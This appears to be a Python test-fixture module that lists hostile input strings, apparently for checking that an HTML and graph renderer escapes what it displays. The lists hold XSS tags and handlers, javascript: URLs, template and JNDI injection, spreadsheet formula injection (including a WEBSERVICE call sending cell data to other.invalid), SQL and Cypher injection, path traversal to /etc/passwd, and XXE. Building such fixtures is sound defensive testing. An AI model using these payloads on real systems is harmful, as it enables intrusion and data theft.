"""Texts that mean something to some program on their way, by what they mean to it.

Whatever runs sets `window.hostile`; whatever loads asks `other.invalid`. The first of each table
stands for the others where a test has no time for all.
"""

from __future__ import annotations

RUN = "window.hostile = 1"
SCRIPT = f"<script>{RUN}</script>"

TAGS = (
    SCRIPT,
    f'<img src=x onerror="{RUN}">',
    f'"><svg onload="{RUN}">',
    f"</script>{SCRIPT}",
    f"--></style>{SCRIPT}",
    # pyvis writes a title that holds the word href into the page as it is
    '<a href="javascript:window.hostile = 1" onmouseover="window.hostile = 1">href</a>',
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea></title></noscript>{SCRIPT}",
    f"<![CDATA[>]]>{SCRIPT}",
    f"<!--[if true]>{SCRIPT}<![endif]-->",
    f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    '<iframe src="http://other.invalid/x"></iframe>',
    '<base href="http://other.invalid/">',
    '<meta http-equiv="refresh" content="0;url=http://other.invalid/">',
    '<link rel="stylesheet" href="http://other.invalid/x.css">',
    "<style>@import 'http://other.invalid/x.css'; * { display: none }</style>",
    '<object data="http://other.invalid/x"></object><embed src="http://other.invalid/x">',
    '<form action="http://other.invalid/"><button>press</button></form>',
    "</td></tr></table></div></body></html>",
    "<h1>another head</h1>",
)
EVENT_HANDLERS = (
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" x="',
    f"` onmouseover=`{RUN}",
    f"x onerror={RUN.replace(' ', '')}",
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<img src=x:x onerror\n=\n"{RUN}">',
    f'<img/src="x"/onerror="{RUN}">',
    f'<marquee onstart="{RUN}">x</marquee>',
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://https://other.invalid/%0a{RUN}",
    f"data:text/html,{SCRIPT}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
    f"vbscript:{RUN}",
    "//other.invalid/x",
    'http://other.invalid/"onmouseover="window.hostile=1',
)
DRAWINGS = (
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s">',
    '<svg><image href="http://other.invalid/x.png"/></svg>',
    f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,x#x"/></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    '<math href="javascript:window.hostile = 1">x</math>',
    "</text></svg><style>* { display: none }</style>",
)
MARKDOWN = (
    "[press](javascript:window.hostile%20=%201) ![load](http://other.invalid/x.png)",
    "$\\href{javascript:window.hostile=1}{x}$ :red[x] :material/home: **x** `x`",
    ":red[x] :blue-background[x] :rainbow[x] :small[x]",
    ":material/delete: :streamlit: :joy:",
    "$$\\frac{1}{0}$$ $\\undefined$ $x",
    "\\includegraphics{http://other.invalid/x.png}",
    "```\nwindow.hostile\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "# head\n\n- [ ] task\n\n> quoted\n\n---",
    "<http://other.invalid/x> www.other.invalid reader@other.invalid",
    "[x]: http://other.invalid/x 'x'\n[x]",
)
TEMPLATES = (
    "{0} {words} {{ 7 * 7 }} %s %(x)s",
    "{0.__class__.__mro__} {wording} {number!r:>{width}}",
    "{{ config }} {% include 'x' %} {# x #}",
    "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://other.invalid/x}",
    "{ } } { {0[}",
    "%d %n %x %1$s %%",
    "\\g<0> \\1 \\U0001 $& $1",
)
FORMULAS = (
    '=HYPERLINK("http://other.invalid") | \'; DROP TABLE node; --',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    # full-width signs, which a spreadsheet of East Asia takes for the narrow ones
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=WEBSERVICE("http://other.invalid/"&A1)',
    '=IMPORTXML("http://other.invalid/","//a")',
    '"=1+1","=1+1"',
    "x\r\n=1+1,=1+1",
    "[x]*?:/\\ the name of a sheet",
)
BIDI = (
    # an override of direction, never closed, and a mark of the end of an isolate too many
    "gpj.\u202etxt \u2069\u2069 \u2066",
    "\u202a embedded, left to right",
    "\u202b مضمن",
    "\u202c\u202c\u202c popped",
    "\u202d override, left to right",
    "\u2066 isolate",
    "\u2067 عزل",
    "\u2068 first strong",
    "\u2069\u2069\u2069 no isolate",
    "\u202e\u2067\u202d\u2066" * 40,
    "\u200e\u200f\u061c marks",
    "المقرر 3/2 (b) of RIV/COP/2008/4 في الفقرة (ج)",
)
INVISIBLE = (
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u200b",
    "\u00a0\u2003\u3000",
    "\u2028\u2029 separators",
    "\u00ad" * 50,
    "\U000e0001\U000e0041\U000e007f tags",
    "\ufe0f\ufe0e\u20e3",
)
CONTROLS = (
    "a\x00b",
    "\x00",
    "\x07\x08\x0b\x0c\x1b[31mred\x1b[0m",
    "\x7f\x80\x85\x9b",
    "\ufffe\uffff\ufffd",
    "a\r\nSet-Cookie: hostile=1\r\n\r\nb",
)
SHAPES = (
    "x" * 400,
    "م" * 400,
    "e" + "\u0301" * 200,
    "ا" + "\u0651\u064b" * 60,
    "\ufdfd" * 12,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "a " * 1500,
    # letters that look like others: of Cyrillic, full width, of mathematics
    "\u0430ge\u0432da \uff1cscript\uff1e \U0001d404\U0001d427 \u2215\u29f8",
    "\u212a \u0130 \u0131 \u1e9e \ufb01 \u017f",  # they change their length with their case
)
QUERIES = (
    '" OR *',
    "NEAR(x y",
    "x AND OR NOT",
    "title:x ^x x*",
    "'; DROP TABLE nodes; --",
    "' OR '1'='1' /*",
    "') UNION SELECT name FROM sqlite_master --",
    "MATCH (n) DETACH DELETE n //",
    "'}) RETURN 1 UNION CALL db.labels() //",
    "/.*/ [a TO b] x~2 && || !(",
    "(((((((((((((((((((((((",
    "% _ %% \\",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "/dev/null",
    "C:\\CON\\NUL.txt",
    "file:///etc/passwd",
    "x\x00.txt",
    "~/.ssh/id",
    "-rf --store=x",
)
ENCODED = (
    "%3Cscript%3Ewindow.hostile=1%3C/script%3E",
    "%253Cscript%253E %00 %0d%0a %ff %",
    "&lt;script&gt;window.hostile=1&lt;/script&gt;",
    "&#60;script&#62; &#x3c; &lt &amp;lt; &nosuch; &#0; &#xd800;",
    "\\u003cscript\\u003e \\x3c \\74",
    "+ADw-script+AD4-window.hostile=1+ADw-/script+AD4-",
    "?page=trace&id=x#top;lang=xx",
)
XML = (
    "]]> x",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?xml version='1.0'?><?xml-stylesheet href='http://other.invalid/x'?>",
    "</data></node></graphml>",
    "-- > --!> <!--",
)

PHENOMENA = {
    "tags": TAGS,
    "event handlers": EVENT_HANDLERS,
    "addresses": ADDRESSES,
    "drawings": DRAWINGS,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "bidi": BIDI,
    "invisible": INVISIBLE,
    "controls": CONTROLS,
    "shapes": SHAPES,
    "queries": QUERIES,
    "paths": PATHS,
    "encoded": ENCODED,
    "xml": XML,
}
